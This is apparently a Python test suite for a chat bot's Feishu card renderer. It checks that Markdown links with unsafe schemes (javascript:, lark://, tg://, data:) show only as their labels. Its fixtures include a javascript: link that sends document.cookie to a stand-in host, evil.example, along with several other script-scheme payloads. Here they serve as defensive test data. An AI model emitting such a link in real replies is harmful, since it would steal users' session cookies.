"""Links in model text to schemes other than http(s)/mailto reach no card as links: a reply card,
a question card and every update of a live card show them as their labels alone, as Slack and
Telegram do (``clarigate.adapters.markdown.SAFE_SCHEMES``)."""

from __future__ import annotations

import re

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from clarigate.adapters.feishu.links import safe_links
from clarigate.adapters.feishu.live import live_markdown
from clarigate.adapters.feishu.markup import escape_markdown
from clarigate.adapters.feishu.render import render_clarification, render_reply
from clarigate.adapters.markdown import SAFE_SCHEMES
from clarigate.adapters.testing import ScriptedRunner
from clarigate.agent.harness import TurnOutput
from clarigate.agent.protocol import normalize_request, render_text_fallback
from clarigate.gateway.boundary.outbound_items import LiveView

from .cards import text_of, walk
from .events import message_event
from .test_live import agent, quick_cards, streamed  # noqa: F401 (fixtures)

REPLY = (
    "Your session expired: [sign in again](javascript:fetch('//evil.example/?c='+document.cookie)) "
    "or [open the admin chat](lark://applink.feishu.cn/client/chat/open?openChatId=oc_admin)."
)
#: A Markdown link ``[label](target)`` whose target has a scheme other than http(s) or mailto.
UNSAFE_LINK = re.compile(r"\]\(\s*<?(?!https?://|mailto:)[a-z][a-z0-9+.-]*:", re.IGNORECASE)


def _reader(indented_code: bool) -> MarkdownIt:
    """A CommonMark reader that takes every target for a link (markdown-it drops ``javascript:``
    ones by default), with or without indented code blocks."""
    md = MarkdownIt("commonmark", {"html": False})
    md.validateLink = lambda url: True  # type: ignore[method-assign]
    return md if indented_code else md.disable("code")


READERS = (_reader(True), _reader(False))


def link_targets(markdown: str) -> list[str]:
    """Every link and image target a CommonMark reader finds in card ``markdown``."""
    found = []
    for reader in READERS:
        for block in reader.parse(markdown):
            for token in block.children or []:
                if token.type in ("link_open", "image"):
                    found.append(str(token.attrs.get("href", token.attrs.get("src", ""))))
    return found


def unsafe_links(markdown: str) -> list[str]:
    return [target for target in link_targets(markdown) if not target.lower().startswith(SAFE_SCHEMES)]


def lax_links(markdown: str) -> list[str]:
    """What a laxer reader than CommonMark might take for a link to an unsafe scheme: a "](" and
    such a target after a "[" (escaped or not, whatever follows the target)."""
    return [m.group() for m in UNSAFE_LINK.finditer(markdown) if "[" in markdown[: m.start()]]


@pytest.mark.parametrize("store", ["memory"], indirect=True)
async def test_a_reply_card_shows_unsafe_links_as_their_labels_only(make_bot):
    bot = await make_bot(ScriptedRunner(lambda turn: TurnOutput(replies=[REPLY])), streaming="off")
    await bot.deliver(message_event("why can't I log in?"))
    await bot.gateway.drain()
    shown = "\n".join(text_of(card) for card in bot.api.shown())
    assert "Your session expired: sign in again or open the admin chat." in shown
    assert not UNSAFE_LINK.search(shown) and "javascript" not in shown and "lark://" not in shown


def test_safe_links_stay_as_written_and_the_rest_of_the_text_too():
    reply = (
        "# Links [home](https://example.com/a_(b)) and [mail](MAILTO:ops@example.com)\n\n"
        "> quoted [a\n> **label**](tg://resolve?domain=x) then ![logo](https://example.com/l.png)\n\n"
        "- ![pixel](javascript:alert(1)) and [![badge](https://i.example/b.svg)](vbscript:x)\n"
        "- [rel](/admin) [empty]() [ref][r] <at id=all></at> `[code](javascript:kept)`\n\n"
        "    [indented](data:text/html,x)\n\n"
        "```\n[fenced](javascript:kept)\n```\n\n"
        "[r]: lark://applink.feishu.cn/client/op/open\n"
    )
    [card] = render_reply(reply)
    assert text_of(card) == (
        "# Links [home](https://example.com/a_(b)) and [mail](MAILTO:ops@example.com)\n\n"
        "> quoted a\n> **label** then [logo](https://example.com/l.png)\n\n"  # an image: a link
        "- pixel and badge\n"
        "- rel empty ref &#60;at id=all>&#60;/at> `[code](javascript:kept)`\n\n"
        "    indented\n\n"
        "```\n[fenced](javascript:kept)\n```\n\n"
        "[r]: lark://applink.feishu.cn/client/op/open"
    )


def test_a_link_taken_out_leaves_no_link_behind_and_laxer_forms_are_broken():
    assert escape_markdown("[[x](javascript:a)](javascript:b)") == "x"  # not "[x](javascript:b)"
    # not links to CommonMark, maybe to a laxer reader: a zero-width space keeps "]" from "("
    shown = escape_markdown(r"\[a](javascript:x) [b](javascript:x y) `[c](javascript:z)`")
    assert shown == "\\[a]\u200b(javascript:x) [b]\u200b(javascript:x y) `[c](javascript:z)`"
    assert not lax_links(shown.replace("`[c](javascript:z)`", ""))


def test_a_question_card_shows_unsafe_links_in_its_texts_as_labels():
    args = {
        "question": "Confirm on [the console](javascript:steal()) first?",
        "context": "See [the runbook](lark://docs/runbook) or [the wiki](https://wiki.example/r).",
        "fields": [{"name": "who", "label": "Owner, from [the list](tg://resolve?domain=x)"}],
    }
    request = normalize_request(args, "call-1")
    card = render_clarification(request, "AbCdEfGhIjKlMnOp", render_text_fallback(request))
    shown = [c["content"] for c in walk(card["body"]) if c["tag"] == "markdown"]
    assert "Confirm on the console first?" in "\n".join(shown) and "Owner, from the list" in "\n".join(shown)
    assert "See the runbook or [the wiki](https://wiki.example/r)." in shown
    assert not [text for text in shown if unsafe_links(text) or lax_links(text)]


def test_no_update_of_a_live_card_holds_an_unsafe_link_wherever_the_stream_stops():
    answer = (
        REPLY
        + ' Then [retry](lark://applink.feishu.cn/client/op/open "the (admin) page") or [docs](https://d.example/x).'
    )
    shown = [live_markdown(LiveView(mode="card", text=answer[:end])) for end in range(1, len(answer) + 1)]
    assert not [text for text in shown if unsafe_links(text) or "javascript" in text or "lark:" in text]
    texts = [text for text in shown if text != "⏳ Working…"]
    assert all(later.startswith(earlier) for earlier, later in zip(texts, texts[1:], strict=False))
    assert texts[-1] == (
        "Your session expired: sign in again or open the admin chat. Then retry or [docs](https://d.example/x)."
    )


async def test_a_streamed_answer_never_shows_an_unsafe_link_on_the_card(make_bot, agent, quick_cards):  # noqa: F811
    answer = (
        "Your session expired, so here is what to do next: please "
        '[sign in again](javascript:fetch("//evil.example/?c="+document.cookie) "a quick way back in") '
        "or ask in [the admin chat](lark://applink.feishu.cn/client/chat/open?openChatId=oc_admin "
        '"where the admins are") and someone will help you within the hour, or read '
        "[the guide](https://docs.example.com/login) about it."
    )
    bot = await make_bot(agent([{"content": answer, "token_delay_seconds": 0.12}]))
    await bot.deliver(message_event("why can't I log in?"))
    await bot.gateway.drain(timeout=30)
    texts = streamed(bot.api)
    assert len(texts) >= 3
    for text in [*texts, *(text_of(card) for card in bot.api.shown())]:
        assert not unsafe_links(text) and "javascript" not in text and "lark:" not in text, text
    assert all(later.startswith(earlier) for earlier, later in zip(texts, texts[1:], strict=False))
    assert "please sign in again or ask in the admin chat and" in text_of(bot.api.shown()[-1])
    assert "[the guide](https://docs.example.com/login)" in text_of(bot.api.shown()[-1])


_PIECES = [
    "[", "]", "(", ")", "!", "<", ">", "\\", "`", "*", " ", "\n", "\n\n", "> ", "- ", "    ", "\t",
    '"', "a", "label", "javascript:x", "JavaScript:", "lark://y", "tg://z", "data:t", "https://ok.example",
    "mailto:a@b.c", "/rel", "[r]: ", "[r]", "](", "![", "&#106;avascript:x", "```\n",
]  # fmt: skip
markdownish = st.lists(st.sampled_from(_PIECES), max_size=40).map("".join)


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(markdownish)
def test_no_card_markdown_ever_holds_a_link_to_an_unsafe_scheme(text: str):
    for markdown in (escape_markdown(text), *(text_of(card) for card in render_reply(text))):
        assert not unsafe_links(markdown), (text, markdown)
        if "`" not in text:  # code spans keep what they hold as written
            assert not lax_links(markdown), (text, markdown)


_NOT_SAFE = re.compile(r"java|lark|tg:|data|/rel|&#|\[r]|```", re.IGNORECASE)  # not safe targets
safe_pieces = st.sampled_from([piece for piece in _PIECES if not _NOT_SAFE.search(piece)])
UNSAFE = "\n\n[the admin chat](lark://applink.feishu.cn/client/chat/open?openChatId=oc_admin)"


@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(st.one_of(safe_pieces, st.just("[ok](https://ok.example/p)")), max_size=40).map("".join))
def test_only_the_unsafe_links_change_the_rest_is_escaped_as_before(text: str):
    if unsafe_links(text) or lax_links(text) or "```" in text or "![" in text:
        return  # "[x]()": a link to nothing is shown as its label too; an open fence holds the link;
        # an image is made a link (``test_images_and_tables``)
    assert safe_links(text) == text
    assert escape_markdown(text + UNSAFE) == escape_markdown(text) + "\n\nthe admin chat"
